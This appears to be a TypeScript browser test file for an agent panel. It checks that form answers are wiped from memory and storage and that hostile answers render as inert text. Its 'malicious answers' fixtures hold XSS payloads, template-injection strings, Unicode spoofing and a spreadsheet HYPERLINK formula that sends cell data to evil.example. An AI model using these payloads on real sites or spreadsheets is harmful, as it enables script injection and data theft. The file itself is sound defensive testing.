/** What the agent panel keeps, and for how long; and answers that were written to do harm. */
import { describe, expect } from 'vitest'
import { type Desk, type DeskOptions, openDesk } from '../../kit/browser/agent-desk.ts'
import { heapOf } from '../../kit/browser/heap.ts'
import type { BrandSite, Stage } from '../../kit/browser/stage.ts'
import { agentTest } from '../../kit/fixtures.ts'

const test = agentTest()

const question = (id: string, type: string, more: object = {}) => ({
  ...{ id, type, label: { en: id }, required: false, masked: true, offTheRecord: false },
  ...more,
})

/** A desk at a site with a template “Own form” of these questions. */
const openDeskWithForm = async (
  stage: Stage,
  questions: readonly object[],
  options: DeskOptions = {},
): Promise<Desk> => {
  const site: BrandSite = await stage.newBrandSite()
  const body = { defaultLocale: 'en', title: { en: 'Own form' }, questions }
  const token = site.administrator.accessToken
  expect((await site.request('PUT', '/v1/templates/own-form', { token, body })).status).toBe(200)
  const desk = await openDesk(stage, { ...options, at: { site, conversationId: await site.newConversation() } })
  await desk.agent.sendForm('Own form')
  return desk
}

describe('the panel', () => {
  const stored = 'Canary Stored Ofunlikelyname'
  const sealed = 'Canary Sealed Ofunlikelyname'

  /** A desk that shows both answers in clear. */
  const revealCanaries = async (stage: Stage, options: DeskOptions = {}): Promise<Desk> => {
    const questions = [question('stored', 'text'), question('sealed', 'text', { offTheRecord: true })]
    const desk = await openDeskWithForm(stage, questions, options)
    const { agent } = desk
    await (await desk.openForm()).submit({ stored }, { sealed })
    await agent.waitForAnswers()
    await agent.showAnswers()
    await agent.openOnce('sealed')
    await agent.reveal('stored')
    for (const text of [sealed, stored]) await agent.newestForm.find({ text }).waitUntil('visible')
    return desk
  }

  test('has no answer and no token in memory after a sign-out in another tab', async ({ stage }) => {
    const desk = await revealCanaries(stage)
    const token = desk.token()?.split('.').at(-1) ?? ''
    const before = await heapOf(desk.frame)
    expect([stored, sealed, token].map((secret) => before.includes(secret))).toEqual([true, true, true])

    await desk.signOutElsewhere()
    await desk.agent.waitForText('You’re signed out. All answers were removed from this page.')
    expect(await desk.eventsNamed('signed-out')).toHaveLength(1)
    const after = await heapOf(desk.frame)
    expect(after.length).toBeGreaterThan(100_000)
    expect([stored, sealed, token].map((secret) => after.includes(secret))).toEqual([false, false, false])
  })

  test('has no answer in memory after the push that the conversation is closed', async ({ stage }) => {
    const desk = await revealCanaries(stage)
    await desk.agent.waitUntilLive()
    await desk.site.closeConversation(desk.conversationId)
    await desk.agent.waitForText('This conversation has ended.')
    const after = await heapOf(desk.frame)
    expect(after.length).toBeGreaterThan(100_000)
    expect([stored, sealed].map((secret) => after.includes(secret))).toEqual([false, false])
  })

  test('has no off-the-record answer in memory after it says that the answer was discarded', async ({ stage }) => {
    const desk = await revealCanaries(stage, { withClock: true })
    await desk.page.clock.fastForward(60_000)
    await desk.agent.newestForm.find({ text: 'Removed for security.' }).waitUntil('visible')
    expect((await heapOf(desk.frame)).includes(sealed)).toBe(false)
  })

  test('has no answer in memory after the browser has left the page', async ({ stage }) => {
    const desk = await revealCanaries(stage)
    await desk.frame.evaluate(`dispatchEvent(new PageTransitionEvent('pagehide', { persisted: true }))`)
    expect(await desk.frame.content()).not.toContain('Canary')
    // The driver keeps the text that it last looked for in the page's memory, until it looks for another.
    await desk.frame.getByText('something else').count()
    const after = await heapOf(desk.frame)
    expect([stored, sealed].map((secret) => after.includes(secret))).toEqual([false, false])
  })

  test('stores nothing in the browser, and passes only ids and states to the desktop, and never an answer', async ({
    stage,
  }) => {
    const desk = await revealCanaries(stage)
    const storage = await desk.frame.evaluate(async () => ({
      local: localStorage.length,
      session: sessionStorage.length,
      databases: await indexedDB.databases(),
      caches: await caches.keys(),
      cookies: document.cookie,
      history: history.state,
      name: window.name,
      workers: (await navigator.serviceWorker.getRegistrations()).length,
      address: location.search + location.hash,
    }))
    expect(storage).toEqual({
      ...{ local: 0, session: 0, databases: [], caches: [], cookies: '', history: null, name: '', workers: 0 },
      address: '',
    })
    expect(await desk.context.storageState({ indexedDB: true })).toEqual({ cookies: [], origins: [] })
    const events = JSON.stringify(await desk.page.evaluate('events'))
    expect(events).toContain('retrieved')
    expect(events).not.toContain('Ofunlikelyname')
  })

  test('removes the answers of an erased submission from the screen immediately', async ({ atDesk }) => {
    const desk = await atDesk()
    const { agent, site, conversationId } = desk
    await agent.waitUntilLive()
    await desk.receiveCard()
    await agent.showAnswers()
    await site.administrator.reply('erase', { body: { conversationId } })
    await agent.waitForText('No longer available. The conversation has ended')
    expect(await agent.answerCount()).toBe(0)
    // The conversation is still open.
    await agent.sendForm()
  })

  test('removes every answer at the idle timeout, and continues after the next sign-in', async ({ atDesk }) => {
    const desk = await atDesk({ withClock: true })
    const { agent, page } = desk
    await desk.receiveCard()
    await agent.showAnswers()
    await agent.reveal('Card number')
    await page.clock.fastForward('14:10')
    await agent.signOutWarning.find({ text: '1 minute' }).waitUntil('visible')
    await page.clock.fastForward('01:00')
    await agent.waitForText('You were signed out because you were inactive.')
    expect(await agent.answerCount()).toBe(0)
    expect(await desk.frame.content()).not.toContain('1111')
    expect(await desk.eventsNamed('signed-out')).toHaveLength(1)
    await desk.signIn()
    await agent.continueAfterSignIn()
    await agent.waitForStatus('Viewed')
  })
})

describe('abuse case 28: malicious answers', () => {
  const hostile = {
    image: '<img src=x onerror="alert(1)"><iframe src="//evil.example">',
    vector: '<svg onload=alert(1)><script>alert(2)</script></svg>',
    formula: '=HYPERLINK("https://evil.example/?"&A1,"click")',
    template: `{{constructor.constructor('alert(1)')()}}\${alert(1)}`,
    address: 'javascript:alert(1)',
    turned: 'Ada \u202Eecalevol\u202C \u2066x\u2069',
    unseen: 'pay\u200Bpal\uFEFF\u00AD\u{E0041}',
    long: 'W'.repeat(4_000),
  }
  const shown = {
    ...hostile,
    turned: 'Ada U+202EecalevolU+202C U+2066xU+2069',
    unseen: 'payU+200BpalU+FEFFU+00ADU+E0041',
  }

  test('are shown as text, with a visible mark for each invisible character', async ({ stage }) => {
    const ids = Object.keys(hostile)
    const questions = [...ids.map((id) => question(id, 'text')), question('sealed', 'text', { offTheRecord: true })]
    const desk = await openDeskWithForm(stage, questions)
    const { agent, page } = desk
    let dialogs = 0
    page.on('dialog', (dialog) => {
      dialogs += 1
      void dialog.dismiss()
    })
    await (await desk.openForm()).submit(hostile, { sealed: `${hostile.image}\u202E` })
    await agent.waitForAnswers()
    await agent.showAnswers()
    await agent.openOnce('sealed')
    await expect.poll(() => agent.shownAnswer('sealed')).toBe(`${hostile.image}U+202E`)
    for (const id of ids) await agent.reveal(id)
    for (const [id, text] of Object.entries(shown)) {
      expect(await agent.shownAnswer(id)).toBe(text)
      expect(await agent.answerRow(id).find({ css: 'bdi *:not(span.unseen)' }).count()).toBe(0)
    }
    expect(await agent.page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true)
    const { foreignRequests, browserErrors } = desk
    expect({ dialogs, foreignRequests, browserErrors }).toEqual({ dialogs: 0, foreignRequests: [], browserErrors: [] })
  })

  test('cannot become markup, because the page creates no markup from strings and runs no inline scripts', async ({
    stage,
    atDesk,
  }) => {
    const { frame } = await atDesk()
    const refused = await frame.evaluate(async () => {
      const violated = new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective))
      })
      try {
        document.body.innerHTML = '<b>markup</b>'
        return 'taken'
      } catch {
        return await violated
      }
    })
    expect(refused).toBe('require-trusted-types-for')
    expect(stage.policies.takeViolations()).toEqual([expect.stringContaining("requires 'TrustedHTML'")])
  })
})
